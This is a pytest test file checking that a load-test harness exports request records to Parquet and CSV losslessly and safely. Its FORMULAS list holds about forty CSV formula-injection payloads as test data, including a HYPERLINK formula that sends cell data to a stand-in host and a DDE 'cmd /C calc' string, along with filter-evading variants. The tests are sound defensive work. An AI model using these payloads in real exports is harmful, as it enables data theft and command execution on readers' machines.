"""Parquet and CSV: one row a request, nothing lost, nothing that a spreadsheet would run."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import duckdb
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from harness.errors import RunError
from harness.exports.command import export
from harness.records import RecordFile, RequestRecord, read_record_file
from harness.store import RunDirectory
from tests.exports.runs import everything, run
from tests.harness.builders import LAW, bare_record, record, write_records, write_run

NAMES = [name for name in RequestRecord.__struct_fields__ if name != "kind"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")

# 40 ways to have a spreadsheet run something.
FORMULAS = [
    *(f"{sign}HYPERLINK(\"http://x/?\"&A1)" for sign in "=+-@"),
    *(f"{sign}cmd|' /C calc'!A0" for sign in "=+-@"),
    *(f"{blank}=1+1" for blank in (" ", "  ", "\t", "\r", "\n", "\r\n", "\x0b", "\u00a0", "\u3000")),
    *(f"{quote}=1+1" for quote in ('"', "'", '""', "''", '"\'', "' ", '" ')),
    *(f"harmless{separator}=1+1" for separator in (";", "\t", ",", "|", "\n", "\r\n", '"', "'", '";', '",', "';", '"\t')),
    *(f"{sign}1+1" for sign in "＝＋－＠"),
    "=1;=2;=3",
    "a\t=1\t=2",
    "=",
    "-",
]  # fmt: skip


def parquet(path: Path) -> list[dict[str, Any]]:
    relation = duckdb.connect().read_parquet(str(path))
    return [dict(zip(relation.columns, row, strict=True)) for row in relation.fetchall()]


def cells(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def plain(item: RequestRecord) -> dict[str, Any]:
    return {name: getattr(item, name) for name in NAMES} | {"is_warmup": False}


def test_parquet_holds_every_field_of_every_record_in_order(tmp_path: Path) -> None:
    directory = run(tmp_path / "run-1")
    found = parquet(export(directory.path, "parquet", None))
    assert found == [plain(item) for item in everything()]
    assert list(found[0]) == [*NAMES, "is_warmup"]


def test_requests_of_the_warm_up_are_marked(tmp_path: Path) -> None:
    directory = write_run(tmp_path / "run-1", [[bare_record(n, intended_at=n / 4) for n in range(8)]], warmup_s=1.0)
    assert [row["is_warmup"] for row in parquet(export(directory.path, "parquet", None))] == [True] * 4 + [False] * 4
    assert [row["is_warmup"] for row in cells(export(directory.path, "csv", None))] == ["true"] * 4 + ["false"] * 4


def test_types_hold_also_where_nothing_is_known(tmp_path: Path) -> None:
    """Gaps are lists, counts are integers, in a run that has none of them too."""
    directory = write_run(tmp_path / "run-1", [[bare_record(0)]])
    relation = duckdb.connect().read_parquet(str(export(directory.path, "parquet", None)))
    types = dict(zip(relation.columns, map(str, relation.types), strict=True))
    assert types["token_gaps_s"] == "DOUBLE[]"
    assert types["chunk_tokens"] == "BIGINT[]"
    assert (types["status"], types["sent_at"], types["stream"], types["outcome"]) == (
        "BIGINT",
        "DOUBLE",
        "BOOLEAN",
        "VARCHAR",
    )


def test_csv_numbers_stay_numbers_and_missing_stays_missing(tmp_path: Path) -> None:
    directory = run(tmp_path / "run-1")
    found = cells(export(directory.path, "csv", None))
    assert len(found) == len(everything())
    for row, item in zip(found, everything(), strict=True):
        for name in NAMES:
            value, cell = getattr(item, name), row[name]
            if value is None:
                assert cell == ""
            elif isinstance(value, str):
                assert cell == value
            else:
                assert json.loads(cell) == value


def test_a_negative_number_is_no_formula(tmp_path: Path) -> None:
    directory = write_run(tmp_path / "run-1", [[record(0, intended_at=-1.5)]])
    assert cells(export(directory.path, "csv", None))[0]["intended_at"] == "-1.5"


def test_forty_formulas_and_none_gets_through(tmp_path: Path) -> None:
    assert len(FORMULAS) >= 40
    items = [record(n, error_text=text, model=text, tenant=text) for n, text in enumerate(FORMULAS)]
    path = export(write_run(tmp_path / "run-1", [items]).path, "csv", None)
    text = path.read_bytes().decode()
    for delimiter in (",", ";", "\t", "|"):  # a spreadsheet may take another sign than ours for the separator
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
            for cell in row:
                assert not _runs(cell), (delimiter, cell)


def _runs(cell: str) -> bool:
    """A spreadsheet trims blanks and quotes before it looks; a number is no formula."""
    if cell.startswith(("\t", "\r")):
        return True
    bare = cell.strip().strip('"').strip()
    return bare.startswith(TRIGGERS) and not _is_number(bare)


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


_WORDS = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00=+-@＝＋－＠"), max_size=20)


@settings(parent=LAW, max_examples=6)  # each is two exports of many texts
@given(st.lists(_WORDS.filter(lambda text: not text.startswith(("\t", "\r"))), min_size=20, max_size=60))
def test_other_text_comes_back_as_it_was(tmp_path_factory: pytest.TempPathFactory, texts: list[str]) -> None:
    items = [record(n, error_text=text, model=text) for n, text in enumerate(texts)]
    directory = write_run(tmp_path_factory.mktemp("law") / "run-1", [items])
    found = cells(export(directory.path, "csv", None))
    assert [row["error_text"] for row in found] == texts
    assert [row["model"] for row in parquet(export(directory.path, "parquet", None))] == texts


def test_all_text_is_whole_in_parquet(tmp_path: Path) -> None:
    texts = [*FORMULAS, "a\x00b", "\u2028", "x" * 100_000, "2026-01-01", "1", "null", "[1]"]
    items = [record(n, error_text=text) for n, text in enumerate(texts)]
    found = parquet(export(write_run(tmp_path / "run-1", [items]).path, "parquet", None))
    assert [row["error_text"] for row in found] == texts


@pytest.mark.parametrize(
    "torn", [b'{"kind":"request","request_id":"half', b""], ids=["half a line", "a whole line without its end"]
)
def test_the_last_line_of_a_killed_writer_is_left_out(tmp_path: Path, torn: bytes) -> None:
    """As every other reading leaves it out, also when only its newline is missing."""
    directory = run(tmp_path / "run-1")
    path = directory.path / "records-1.jsonl"
    *lines, _footer = path.read_bytes().splitlines(keepends=True)
    path.write_bytes(b"".join(lines) + (torn or lines[-1].rstrip(b"\n")))
    before = path.read_bytes()
    files: list[Any] = []
    want = [plain(item) for item in directory.records(files)]
    assert sum(file.num_torn for file in files) == 1
    assert parquet(export(directory.path, "parquet", None)) == want
    assert path.read_bytes() == before


@pytest.mark.parametrize(
    "line",
    [
        b'{"kind":"ledger"}',
        b'{"request_id":"x"}',
        b"no json",
        b'{"kind":"request","request_id":"x","intended_at":"soon"}',
    ],
)
def test_a_line_that_cannot_be_read_ends_the_export(tmp_path: Path, line: bytes) -> None:
    directory = run(tmp_path / "run-1")
    path = directory.path / "records-0.jsonl"
    first, *lines = path.read_bytes().splitlines(keepends=True)
    path.write_bytes(b"".join([first, line + b"\n", *lines]))
    for name in ("parquet", "csv"):
        with pytest.raises(RunError, match="run-1"):
            export(directory.path, name, None)
    assert not [each for each in directory.path.iterdir() if "export" in each.name]


def test_another_schema_is_refused(tmp_path: Path) -> None:
    directory = write_run(tmp_path / "run-1", [])
    write_records(directory.path / "records-0.jsonl", [record(0)], schema_version=99)
    with pytest.raises(RunError, match="schema 99"):
        export(directory.path, "parquet", None)


def test_a_path_with_every_sign_that_sql_and_globs_know(tmp_path: Path) -> None:
    parent = tmp_path / 'it\'s [a-z]* a? "run" {x}'
    parent.mkdir()
    directory = run(parent / "run-1")
    target = export(directory.path, "parquet", parent / "o'ut[1].parquet")
    copy = tmp_path / "plain.parquet"
    copy.write_bytes(target.read_bytes())  # to be read by a path without signs
    assert len(parquet(copy)) == len(everything())


def test_a_run_without_records(tmp_path: Path) -> None:
    bare = write_run(tmp_path / "bare", [])
    with pytest.raises(RunError, match="no records"):
        export(bare.path, "parquet", None)
    empty = write_run(tmp_path / "empty", [[]])
    assert parquet(export(empty.path, "parquet", None)) == []
    assert cells(export(empty.path, "csv", None)) == []


def test_records_of_an_older_harness_lack_fields(tmp_path: Path) -> None:
    """A field that came later is missing, as it is when records are read one by one."""
    directory = write_run(tmp_path / "run-1", [[record(0)]])
    path = directory.path / "records-0.jsonl"
    header, line, footer = path.read_bytes().splitlines()
    fields = json.loads(line)
    del fields["cost_usd"], fields["replica"]
    path.write_bytes(b"\n".join([header, json.dumps(fields, separators=(",", ":")).encode(), footer, b""]))
    found = parquet(export(directory.path, "parquet", None))
    assert found == [plain(item) for item in _read(directory)]


def _read(directory: RunDirectory) -> list[RequestRecord]:
    path = directory.path / "records-0.jsonl"
    return list(read_record_file(path, RecordFile(path)))
